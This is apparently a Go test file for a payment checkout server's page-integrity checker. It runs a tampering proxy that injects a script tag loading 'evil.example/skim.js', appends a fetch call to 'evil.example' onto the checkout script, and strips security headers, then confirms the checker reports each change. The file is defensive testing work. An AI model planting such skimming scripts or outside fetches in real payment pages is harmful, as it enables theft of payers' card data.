package server

import (
	"bytes"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/purserhq/purser/internal/checkout"
)

// TestPagesAreChecked reads pages through something that is between a server and
// its payers, which spoils them or the files that they load.
func TestPagesAreChecked(t *testing.T) {
	t.Parallel()
	r := start(t, Config{}, nil)
	defer r.halt(t)
	script, style := checkout.Files()[0], checkout.Files()[1]
	check := func(address string) (string, error) {
		t.Helper()
		var out bytes.Buffer
		err := CheckPages(t.Context(), Terminal{Out: &out}, []string{address})
		return out.String(), err
	}
	if said, err := check(r.url + "/pay/link/none?lang=en"); err != nil || !strings.Contains(said, "as built") {
		t.Errorf("got %s, %v, want no complaint", said, err)
	}
	for name, c := range map[string]struct {
		path  string // whose answer is spoilt; empty = that of the page
		spoil func(h http.Header, body string) string
		want  string
	}{
		"a script is put into the page": {"", func(_ http.Header, body string) string {
			return strings.Replace(body, "</body>", `<script src="https://evil.example/skim.js"></script></body>`, 1)
		}, "evil.example/skim.js"},
		"the policy is taken away": {"", func(h http.Header, body string) string {
			h.Del("Content-Security-Policy")
			return body
		}, "no Content-Security-Policy"},
		"our script does more": {script.Path, func(_ http.Header, body string) string {
			return body + "\nfetch('https://evil.example/')"
		}, script.Path + " is another file"},
		"another style": {style.Path, func(http.Header, string) string { return "" }, style.Path + " is another file"},
		"a file is taken for what it is not": {script.Path, func(h http.Header, body string) string {
			h.Del("X-Content-Type-Options")
			return body
		}, "nosniff"},
	} {
		between := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
			passOn(t, w, q, r.url, func(h http.Header, body string) string {
				if isFile := strings.HasPrefix(q.URL.Path, "/pay/static/"); isFile != (c.path != "") ||
					isFile && q.URL.Path != c.path {
					return body
				}
				return c.spoil(h, body)
			})
		}))
		said, err := check(between.URL + "/pay/")
		between.Close()
		if err == nil || !strings.Contains(said, c.want) {
			t.Errorf("%s: got %s, %v, want %q in it", name, said, err, c.want)
		}
	}
	if _, err := check("http://127.0.0.1:1/pay/"); err == nil {
		t.Error("a server that does not answer has good pages")
	}
}

// passOn answers with what another server says, after change.
func passOn(t *testing.T, w http.ResponseWriter, q *http.Request, to string, change func(http.Header, string) string) {
	t.Helper()
	target, err := url.JoinPath(to, q.URL.Path)
	if err != nil {
		t.Error(err)
		return
	}
	request, err := http.NewRequestWithContext(q.Context(), q.Method, target, http.NoBody)
	if err != nil {
		t.Error(err)
		return
	}
	response, err := (&http.Transport{DisableKeepAlives: true}).RoundTrip(request)
	if err != nil {
		t.Error(err)
		return
	}
	defer func() { _ = response.Body.Close() }()
	text, err := io.ReadAll(response.Body)
	if err != nil {
		t.Error(err)
	}
	body := change(response.Header, string(text))
	for name, values := range response.Header {
		if name != "Content-Length" {
			w.Header()[name] = values
		}
	}
	w.WriteHeader(response.StatusCode)
	_, _ = io.WriteString(w, body) // a test's answer is read whole
}

// TestFilesAreListed wants the list to say what each file is, and what it is for.
func TestFilesAreListed(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	if err := ListFiles(Terminal{Out: &out}); err != nil {
		t.Fatal(err)
	}
	for _, f := range checkout.Files() {
		for _, want := range []string{f.Path, f.Integrity, f.Purpose} {
			if !strings.Contains(out.String(), want) {
				t.Errorf("the list lacks %s", want)
			}
		}
	}
}
